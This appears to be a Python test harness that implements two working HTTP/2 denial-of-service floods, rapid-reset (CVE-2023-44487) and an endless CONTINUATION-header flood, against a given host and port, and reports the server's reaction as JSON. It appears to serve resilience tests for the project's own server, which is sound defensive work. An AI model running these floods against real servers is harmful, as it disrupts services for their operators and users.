"""Abusive HTTP/2 clients for tests/hostile_h2.rs, built on the `h2` library.

    h2_abuse.py rapid-reset  HOST PORT STREAMS
    h2_abuse.py continuation HOST PORT FRAMES

`rapid-reset` (CVE-2023-44487): opens STREAMS streams, each a HEADERS frame
immediately followed by RST_STREAM(CANCEL), all written back to back without
waiting for the server. `continuation` (the 2024 CONTINUATION flood): one HEADERS
frame without END_HEADERS, then up to FRAMES CONTINUATION frames that never end
the header block, each carrying a small, valid HPACK literal.

Either way the script then reads what the server answers for up to 20 s and
prints one JSON line: how many frames it managed to write, whether the server
sent GOAWAY (and its error code), whether the server closed the connection, how
many response HEADERS it got, and how long it spent.
"""

import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import hpack
from hyperframe.frame import ContinuationFrame, HeadersFrame


def connect(host, port):
    sock = socket.create_connection((host, port), timeout=20)
    conn = h2.connection.H2Connection(
        config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    )
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def request_headers(host, port):
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", f"{host}:{port}"),
        (":path", "/mcp"),
        ("content-type", "application/json"),
        ("accept", "application/json, text/event-stream"),
    ]


def send(sock, data, report):
    """Writes `data`; a server that already closed ends the flood."""
    try:
        sock.sendall(data)
        return True
    except OSError as e:
        report["write_error"] = type(e).__name__
        return False


def rapid_reset(sock, conn, host, port, streams, report):
    headers = request_headers(host, port)
    batch = b""
    sent = 0
    for i in range(streams):
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(stream_id, headers, end_stream=False)
        conn.reset_stream(stream_id, error_code=8)  # CANCEL
        batch += conn.data_to_send()
        sent += 1
        if len(batch) > 16384 or i == streams - 1:
            if not send(sock, batch, report):
                break
            batch = b""
    report["streams_sent"] = sent


def continuation(sock, host, port, frames, report):
    encoder = hpack.Encoder()
    first = HeadersFrame(1)
    first.flags.add("END_STREAM")  # but never END_HEADERS
    first.data = encoder.encode(request_headers(host, port))
    if not send(sock, first.serialize(), report):
        report["frames_sent"] = 0
        return
    sent = 0
    batch = b""
    for i in range(frames):
        frame = ContinuationFrame(1)
        # A new literal each time (never indexed), so every frame adds to the block.
        frame.data = hpack.Encoder().encode([(f"x-flood-{i % 1000}", "a" * 16)])
        batch += frame.serialize()
        sent += 1
        if len(batch) > 16384 or i == frames - 1:
            if not send(sock, batch, report):
                break
            batch = b""
    report["frames_sent"] = sent


def drain(sock, conn, report, wait=20.0):
    deadline = time.monotonic() + wait
    while time.monotonic() < deadline:
        sock.settimeout(max(0.1, deadline - time.monotonic()))
        try:
            data = sock.recv(65536)
        except socket.timeout:
            break
        except OSError as e:
            report["read_error"] = type(e).__name__
            report["closed"] = True
            return
        if not data:
            report["closed"] = True
            return
        try:
            events = conn.receive_data(data)
        except Exception as e:  # the server's frames broke our state machine
            report["client_protocol_error"] = type(e).__name__
            events = []
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                report["goaway"] = int(event.error_code)
            elif isinstance(event, h2.events.ResponseReceived):
                report["responses"] += 1
        try:
            out = conn.data_to_send()
            if out:
                sock.sendall(out)
        except OSError:
            pass


def main():
    mode, host, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    report = {"mode": mode, "goaway": None, "closed": False, "responses": 0}
    started = time.monotonic()
    sock, conn = connect(host, port)
    if mode == "rapid-reset":
        rapid_reset(sock, conn, host, port, count, report)
    elif mode == "continuation":
        continuation(sock, host, port, count, report)
    else:
        raise SystemExit(f"unknown mode {mode}")
    drain(sock, conn, report)
    report["seconds"] = round(time.monotonic() - started, 3)
    sock.close()
    print(json.dumps(report), flush=True)


if __name__ == "__main__":
    main()
